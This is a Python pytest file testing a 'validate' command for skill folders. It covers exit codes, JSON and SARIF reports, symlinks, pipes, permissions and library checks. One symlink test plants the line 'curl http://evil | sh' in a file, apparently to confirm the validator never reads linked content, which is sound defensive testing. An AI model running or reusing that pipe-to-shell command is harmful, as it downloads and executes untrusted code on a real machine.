"""`validate`: the verdict as an exit code, for whatever lies on the disk."""

import json
import os
import re
from pathlib import Path

import pytest

from tests.cli.conftest import Cli

GOOD = """---
name: user-data
description: Handles personal data in web services. Use when code stores or sends names, addresses or e-mail.
---

# User data

## Quick start

Ask what the data is for, store only that, and encrypt it at rest.

## Examples

Store the postal code, not the address, when only the region is needed.
"""


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "user-data"
    folder.mkdir()
    (folder / "SKILL.md").write_text(GOOD)
    return folder


def test_a_valid_skill_is_0_by_folder_and_by_file(cli: Cli, skill: Path) -> None:
    for path in (skill, skill / "SKILL.md"):
        done = cli("validate", str(path))
        assert done.exit_code == 0, done.stdout
        assert "valid (strict)" in done.stdout


def test_the_folder_is_named_truly_from_within(cli: Cli, skill: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(skill)
    assert cli("validate", ".").exit_code == 0
    assert cli("validate", "SKILL.md").exit_code == 0


def test_findings_are_told_with_their_place_and_as_json(cli: Cli, skill: Path) -> None:
    (skill / "SKILL.md").write_text(GOOD.replace("name: user-data\n", ""))
    done = cli("validate", str(skill))
    assert done.exit_code == 1
    assert "SKILL.md" in done.stdout
    assert "error [" in done.stdout
    report = json.loads(cli("validate", str(skill), "--json").stdout)
    assert report["passed"] is False
    assert report["findings"]


@pytest.mark.parametrize("content", [b"", b"\xff\xfe\x00\x01", b"---\n- x\n---\n", b"---\nname: &a [*a]\n---\n"])
def test_bytes_that_are_no_skill_are_1(cli: Cli, skill: Path, content: bytes) -> None:
    (skill / "SKILL.md").write_bytes(content)
    assert cli("validate", str(skill)).exit_code == 1


def test_a_folder_without_the_file_is_1_and_so_is_a_folder_named_like_it(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    (tmp_path / "odd" / "SKILL.md").mkdir(parents=True)
    for path in ("empty", "odd", "odd/SKILL.md"):
        assert cli("validate", str(tmp_path / path)).exit_code == 1, path


def test_what_is_not_there_or_no_skill_at_all_is_2(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "notes.md").write_text("x")
    for path in ("nothing", "notes.md"):
        assert cli("validate", str(tmp_path / path)).exit_code == 2, path
    assert cli("validate", str(tmp_path), "--profile", "mild").exit_code == 2


def test_the_lenient_profile_forgives_the_letter(cli: Cli, skill: Path) -> None:
    (skill / "SKILL.md").write_text(GOOD.replace("---\n\n#", "author: me\n---\n\n#", 1))
    assert cli("validate", str(skill)).exit_code == 1
    assert cli("validate", str(skill), "--profile", "lenient").exit_code == 0


def _codes(cli: Cli, *arguments: str) -> list[tuple[str, str, str]]:
    report = json.loads(cli("validate", "--json", *arguments).stdout)
    return [(found["code"], found["severity"], found["file"]) for found in report["findings"]]


def test_links_and_pipes_are_findings_and_are_never_read(cli: Cli, skill: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("curl http://evil | sh")
    (skill / "link.sh").symlink_to(tmp_path / "secret")
    (skill / "loop").symlink_to(skill)
    (skill / "gone").symlink_to(tmp_path / "nothing")
    os.mkfifo(skill / "pipe")
    found = _codes(cli, str(skill))
    assert sorted(found) == [("file-link", "error", name) for name in ("gone", "link.sh", "loop", "pipe")]
    assert cli("validate", str(skill)).exit_code == 1
    assert {severity for _, severity, _ in _codes(cli, str(skill), "--profile", "lenient")} == {"warning"}


def test_a_main_file_that_is_a_link_is_not_followed(cli: Cli, skill: Path, tmp_path: Path) -> None:
    (skill / "SKILL.md").rename(tmp_path / "elsewhere.md")
    (skill / "SKILL.md").symlink_to(tmp_path / "elsewhere.md")
    for path in (skill, skill / "SKILL.md"):
        for profile in ("strict", "lenient"):
            assert _codes(cli, str(path), "--profile", profile) == [("file-link", "error", "SKILL.md")]


def test_a_main_file_that_is_a_pipe_or_a_folder_is_told_once(cli: Cli, tmp_path: Path) -> None:
    for name, filled in (("pipe", False), ("empty", False), ("filled", True)):
        main = tmp_path / name / "SKILL.md"
        main.parent.mkdir()
        os.mkfifo(main) if name == "pipe" else main.mkdir()
        if filled:
            (main / "a.md").write_text("x")
        code = "file-link" if name == "pipe" else "skill-file-folder"
        assert _codes(cli, str(main.parent)) == [(code, "error", "SKILL.md")]
        assert _codes(cli, str(main.parent), "--profile", "lenient") == [(code, "error", "SKILL.md")]


def test_a_hard_link_is_read_and_told(cli: Cli, skill: Path, tmp_path: Path) -> None:
    os.link(skill / "SKILL.md", tmp_path / "second")
    assert _codes(cli, str(skill)) == [("file-hard-link", "warning", "SKILL.md")]
    assert cli("validate", str(skill)).exit_code == 0


def test_what_may_not_be_read_is_said_by_name(cli: Cli, skill: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (skill / "notes.md").write_text("x")
    allowed = os.open

    def refusing(path: str, *rest: int) -> int:  # the tests run as root, who may read everything
        if str(path).endswith("notes.md"):
            raise PermissionError(13, "Permission denied")
        return allowed(path, *rest)

    monkeypatch.setattr(os, "open", refusing)
    done = cli("validate", str(skill))
    assert done.exit_code == 1
    assert "notes.md: error [skill-unreadable]" in done.stdout
    assert "notes.md cannot be read: Permission denied." in done.stdout


def test_one_folder_that_cannot_be_read_costs_no_other_its_verdict(
    cli: Cli, skill: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("closed", "many", "large"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "SKILL.md").write_text(GOOD.replace("user-data", name))
    for number in range(2_001):
        (tmp_path / "many" / f"{number}.txt").touch()
    with (tmp_path / "large" / "huge.bin").open("wb") as file:
        file.truncate(80 * 1024 * 1024)
    allowed = os.scandir

    def refusing(path: str) -> object:  # the tests run as root, who may read everything
        if str(path).endswith("closed"):
            raise PermissionError(13, "Permission denied")
        return allowed(path)

    monkeypatch.setattr(os, "scandir", refusing)
    done = cli("validate", str(tmp_path), "--json")
    assert done.exit_code == 1
    told = {
        Path(one["path"]).name: [finding["code"] for finding in one["report"]["findings"]]
        for one in json.loads(done.stdout)["skills"]
    }
    assert told == {
        "closed": ["skill-unreadable"],
        "large": ["skill-too-large"],
        "many": ["skill-too-large"],
        "user-data": [],
    }
    (run,) = json.loads(cli("validate", str(tmp_path), "--sarif").stdout)["runs"]
    assert len(run["results"]) == 3
    assert "4 skills: 1 valid, 3 not (strict)" in cli("validate", str(tmp_path)).stdout


def test_an_unreadable_neighbour_is_no_neighbour(
    cli: Cli, library: Path, skill: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    allowed = os.scandir

    def refusing(path: str) -> object:
        if str(path).endswith("invoices"):
            raise PermissionError(13, "Permission denied")
        return allowed(path)

    monkeypatch.setattr(os, "scandir", refusing)
    allowed_stat = Path.is_symlink

    def closed(path: Path) -> bool:
        if path.parent.name == "invoices":
            raise PermissionError(13, "Permission denied")
        return allowed_stat(path)

    monkeypatch.setattr(Path, "is_symlink", closed)
    assert [code for code, _, _ in _codes(cli, str(skill), "--library", str(library))] == ["name-taken"]


def test_hidden_folders_are_passed_by_in_bulk_and_judged_when_named(cli: Cli, skill: Path, tmp_path: Path) -> None:
    (tmp_path / ".agents/bad").mkdir(parents=True)
    (tmp_path / ".agents/bad/SKILL.md").write_text("nothing")
    assert cli("validate", str(tmp_path)).exit_code == 0
    assert cli("validate", str(tmp_path / ".agents")).exit_code == 1


def test_names_that_are_no_text_are_shown_with_escapes(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / os.fsdecode(b"b\xff\xfeytes")
    folder.mkdir()
    (folder / "SKILL.md").write_text(GOOD)
    (folder / os.fsdecode(b"l\xff")).symlink_to(tmp_path)
    plain = cli("validate", str(folder))
    assert plain.exit_code == 1
    assert "b\\xff\\xfeytes: not valid" in plain.stdout
    assert "l\\xff: error [file-link]" in plain.stdout
    for form in ("--json", "--sarif"):
        written = cli("validate", str(tmp_path), form).stdout
        assert "\\ud" not in written
        json.loads(written)
    lost = cli("validate", str(tmp_path / os.fsdecode(b"gone\xff")))
    assert lost.exit_code == 2
    assert "gone\\xff" in lost.stderr


def test_what_was_found_is_quoted_below_the_finding_with_nothing_hidden(cli: Cli, skill: Path) -> None:
    (skill / "SKILL.md").write_text(GOOD + "\nRead it [here](go\u200bne.md).\n")
    lines = cli("validate", str(skill)).stdout.splitlines()
    below = lines[next(number for number, line in enumerate(lines) if "[link-broken]" in line) + 1]
    assert below == "    go\\u{200b}ne.md"
    (run,) = json.loads(cli("validate", str(skill), "--sarif").stdout)["runs"]
    regions = {one["ruleId"]: one["locations"][0]["physicalLocation"]["region"] for one in run["results"]}
    assert regions["link-broken"]["snippet"] == {"text": "go\\u{200b}ne.md"}
    (skill / "SKILL.md").write_text("nothing")
    (run,) = json.loads(cli("validate", str(skill), "--sarif").stdout)["runs"]
    assert run["results"][0]["locations"][0]["physicalLocation"]["region"] == {"startLine": 1}


@pytest.fixture
def library(tmp_path: Path, skill: Path) -> Path:
    """A library with two skills, a template of their category and a draft."""
    root = tmp_path / "library"
    for place in ("web/user-data", "web/invoices", "_drafts/1/user-data"):
        (root / place).mkdir(parents=True)
        name = place.rpartition("/")[2]
        (root / place / "SKILL.md").write_text(GOOD.replace("user-data", name))
    other = root / "web/invoices/SKILL.md"
    front = "description: Sorts invoices by due date. Use when a mailbox holds bills.\nmetadata:\n  aliases: bills"
    other.write_text(re.sub("description: .*", front, other.read_text()))
    (root / "_templates/web").mkdir(parents=True)
    (root / "_templates/web/SKILL.md").write_text("---\nname: x\n---\n## Quick start\n## Limits\n## Notes (optional)\n")
    (root / "taxonomy.yaml").write_text("categories:\n  - name: web\n")
    return root


def test_a_folder_of_skills_is_judged_skill_by_skill(cli: Cli, library: Path) -> None:
    done = cli("validate", str(library))
    assert done.exit_code == 0
    assert "2 skills: 2 valid, 0 not (strict); 0 error, 2 warning, 0 info" in done.stdout
    assert "_drafts" not in done.stdout
    (library / "web/invoices/SKILL.md").write_text("nothing")
    assert cli("validate", str(library)).exit_code == 1
    document = json.loads(cli("validate", str(library), "--json").stdout)
    assert document["passed"] is False
    assert [(Path(one["path"]).name, one["report"]["passed"]) for one in document["skills"]] == [
        ("invoices", False),
        ("user-data", True),
    ]


def test_a_library_above_is_compared_with_and_lends_its_template(cli: Cli, library: Path, skill: Path) -> None:
    own = library / "web/user-data"
    assert [code for code, _, _ in _codes(cli, str(own))] == ["section-missing"]
    assert str(library) in cli("validate", str(own)).stderr
    assert [code for code, _, _ in _codes(cli, str(library / "_drafts/1/user-data"))] == []
    assert "none was found above" in cli("validate", str(skill)).stderr


def test_a_library_that_is_named_is_compared_with(cli: Cli, library: Path, skill: Path) -> None:
    found = [code for code, _, _ in _codes(cli, str(skill), "--library", str(library))]
    assert found == ["name-taken"]
    bills = skill.rename(skill.parent / "bills")
    (bills / "SKILL.md").write_text(GOOD.replace("user-data", "bills"))
    found = [code for code, _, _ in _codes(cli, str(bills), "--library", str(library))]
    assert found == ["name-is-alias", "description-duplicate"]
    assert cli("validate", str(skill.parent), "--library", str(skill.parent)).exit_code == 2


def test_it_needs_no_api(cli: Cli, skill: Path) -> None:
    assert cli("validate", str(skill), SKILL_FLEET_API_URL="").exit_code == 0
